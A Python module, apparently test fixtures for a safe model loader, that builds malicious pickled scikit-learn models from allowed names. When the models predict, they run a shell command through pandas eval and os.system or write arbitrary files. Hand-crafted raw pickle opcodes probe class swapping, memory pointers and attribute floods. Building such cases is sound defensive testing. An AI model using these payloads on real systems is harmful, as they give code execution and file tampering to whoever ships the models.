"""Models made of nothing but allowed names, that would act once they predict.

Loading them runs nothing. An attack is a function of the payload's shell command; it gives the
pickle. Those in `LIVE` are proved to act where they are loaded and asked.
"""

import collections
import pickle
import struct
from collections.abc import Callable
from pathlib import PosixPath

import numpy as np
import pandas as pd
from sklearn.dummy import DummyClassifier
from sklearn.ensemble import StackingRegressor
from sklearn.frozen import FrozenEstimator
from sklearn.linear_model import Ridge
from sklearn.model_selection import FixedThresholdClassifier
from sklearn.neighbors import KNeighborsRegressor
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import FunctionTransformer

Attack = Callable[[str], bytes]

ROWS = np.array([[0.0, 1.0, 2.0], [3.0, 4.0, 5.0]])
VALUES = np.array([1.0, 2.0])


def _stacked(target: object, method: object) -> StackingRegressor:
    model = StackingRegressor([("a", Ridge())], Ridge())
    model.estimators_, model.final_estimator_ = [target], Ridge().fit(ROWS[:, :1], VALUES)
    model.stack_method_ = method if isinstance(method, collections.deque) else [method]
    return model


def _constant(text: str) -> DummyClassifier:
    """Return what gives *text* for every row, by honest means."""
    model = DummyClassifier(strategy="constant", constant="x").fit(ROWS, ["x", "x"])
    model.constant = model.classes_ = np.array([text], dtype=object)
    return model


def _asked(text: str, target: object, method: str) -> bytes:
    """Make a model that calls `held.method(text)`, whatever row it is given."""
    return pickle.dumps(
        Pipeline([
            ("constant", _stacked(_constant(text), "predict")),
            ("alone", FunctionTransformer(np.sum)),  # of one object in an array: that object
            ("call", _stacked(target, method)),
        ])
    )  # fmt: skip


_EVALUATED = "@np.ctypeslib._ctypeslib.os.system({!r})"


def _array_that_writes_a_file(command: str) -> bytes:
    return _asked(command.rpartition(" ")[2], np.array([b"anything"]), "tofile")


def _frame_that_evaluates(command: str) -> bytes:
    estimator = FrozenEstimator(pd.DataFrame({"a": [1]}))
    return _asked(_EVALUATED.format(command), estimator, "eval")


def _path_that_writes(command: str) -> bytes:
    return _asked("anything", PosixPath(command.rpartition(" ")[2]), "write_text")


def _methods_in_a_deque(command: str) -> bytes:
    array = np.array([b"anything"])
    model = _stacked(array, collections.deque(["tofile"]))
    return pickle.dumps(Pipeline([("path", _constant(command)), ("call", model)]))


def _frame_as_a_tree(_: str) -> bytes:
    model = KNeighborsRegressor(1, algorithm="kd_tree").fit(ROWS, VALUES)
    model._tree = pd.DataFrame({"a": [1]})
    return pickle.dumps(model)


def _threshold(_: str) -> bytes:
    model = FixedThresholdClassifier(DummyClassifier(), response_method="tofile")
    return pickle.dumps(model)


def _text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _named(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


_STACKING = _named("sklearn.ensemble._stacking", "StackingRegressor")


def _raw(body: bytes) -> Attack:
    return lambda _: b"\x80\x02" + body + b"."


def _state_in_a_table_of_another_class() -> bytes:
    table = _named("collections", "OrderedDict") + b")R"
    return _STACKING + b")\x81" + table + _text("stack_method_") + _text("tofile") + b"sb"


def _methods_added_later() -> bytes:
    names = b"]q\x05" + _text("predict") + b"a"
    made = _STACKING + b")\x81}" + _text("stack_method_") + names + b"sb"
    return made + b"h\x05" + _text("tofile") + b"a0"


def _class_by_a_slot() -> bytes:
    made = _named("sklearn.model_selection._split", "KFold") + b")\x81"
    return made + b"N}" + _text("__class__") + _STACKING + b"s\x86b"


def _slots_unseen() -> bytes:
    made = _named("sklearn.model_selection._split", "KFold") + b")\x81"
    table = _named("collections", "OrderedDict") + b")R"
    return made + b"N" + table + _text("__class__") + _STACKING + b"s\x86b"


def _memory_as_an_array() -> bytes:
    # numpy takes such an object for an array at that address
    face = b"}" + _text("data") + b"J\xef\xbe\xad\x0e\x89\x86s"
    made = _named("sklearn.linear_model._base", "LinearRegression") + b")\x81"
    fake = made + b"}" + _text("__array_interface__") + face + b"sb"
    return _named("scipy.spatial._ckdtree", "cKDTree") + fake + b"\x85R"


def _too_many_attributes() -> bytes:
    made = _named("sklearn.linear_model._base", "LinearRegression") + b")\x81}("
    many = b"".join(_text(f"a{number}") + b"N" for number in range(1100))
    return made + many + _text("stack_method_") + _text("tofile") + b"ub"


MODELS: dict[str, Attack] = {
    "an array that writes a file": _array_that_writes_a_file,
    "a frame that evaluates text": _frame_that_evaluates,
    "a path that writes": _path_that_writes,
    "methods in a deque": _methods_in_a_deque,
    "a frame as a tree": _frame_as_a_tree,
    "a threshold by another method": _threshold,
    "a state in a table of another class": _raw(_state_in_a_table_of_another_class()),
    "methods added later": _raw(_methods_added_later()),
    "a class by a slot": _raw(_class_by_a_slot()),
    "slots unseen": _raw(_slots_unseen()),
    "memory as an array": _raw(_memory_as_an_array()),
    "too many attributes": _raw(_too_many_attributes()),
    "another codec": _raw(_named("_codecs", "encode") + b"N" + _text("bz2") + b"\x86R"),
    "a path": lambda _: pickle.dumps(PosixPath("model")),
}

LIVE = (
    "an array that writes a file", "a frame that evaluates text", "a path that writes",
)  # fmt: skip
